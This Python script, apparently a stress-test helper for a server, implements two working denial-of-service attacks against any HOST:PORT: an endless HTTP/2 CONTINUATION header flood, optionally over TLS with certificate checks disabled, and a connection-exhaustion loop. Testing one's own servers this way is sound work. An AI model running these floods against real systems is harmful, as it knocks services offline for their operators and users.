#!/usr/bin/env python3
"""What strangers do to a listener. As a program, `attacks.py NAME HOST:PORT`, one of them until it is killed: it takes
no processor that anybody else can use, as if it were on another machine.
"""
import contextlib
import os
import socket
import ssl
import sys
import threading
import time


def connect(address):
    """To an IPv4 address; who is sent away at once gets a socket as well, which is_closed."""
    host, _, port = address.rpartition(":")
    connection = socket.socket()
    connection.settimeout(10)
    with contextlib.suppress(ConnectionResetError):
        connection.connect((host, int(port)))
    return connection


def close(connections):
    for connection in connections:
        connection.close()


def frame(kind, payload, stream=1):
    """Of HTTP/2, without flags."""
    return len(payload).to_bytes(3, "big") + bytes([kind, 0]) + stream.to_bytes(4, "big") + payload


# A connection's beginning, and of a call the field "a" whose value is to have 1 GiB; what comes is of that value.
ENDLESS = (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, b"", 0) + frame(1, b"\0\1a\x7f\x81\xff\xff\xff\x03value"))


def send_endless_headers(address, done, secured=False):
    """Again and again; returns how often the other side had enough."""
    ended, more = 0, frame(9, bytes(16384)) + 100 * frame(9, b"v")
    while not done.is_set():
        connection = connect(address)
        try:
            if secured:
                context = ssl.create_default_context()
                context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
                context.set_alpn_protocols(["h2"])
                connection = context.wrap_socket(connection)
            connection.settimeout(0.5)
            connection.sendall(ENDLESS)
            while not done.is_set():
                with contextlib.suppress(TimeoutError):
                    connection.sendall(more)
        except OSError:
            ended += 1
        connection.close()
        time.sleep(0.01)
    return ended


def hold_connections(address, done):
    """As fast as it goes, a hundred at a time."""
    held = []
    while not done.is_set():
        with contextlib.suppress(OSError):
            held.append(connect(address))
        if len(held) > 100:
            held.pop(0).close()
            time.sleep(0.005)
    close(held)


if __name__ == "__main__":
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    attack = {"connections": hold_connections, "headers": send_endless_headers}[sys.argv[1]]
    attack(sys.argv[2], threading.Event())
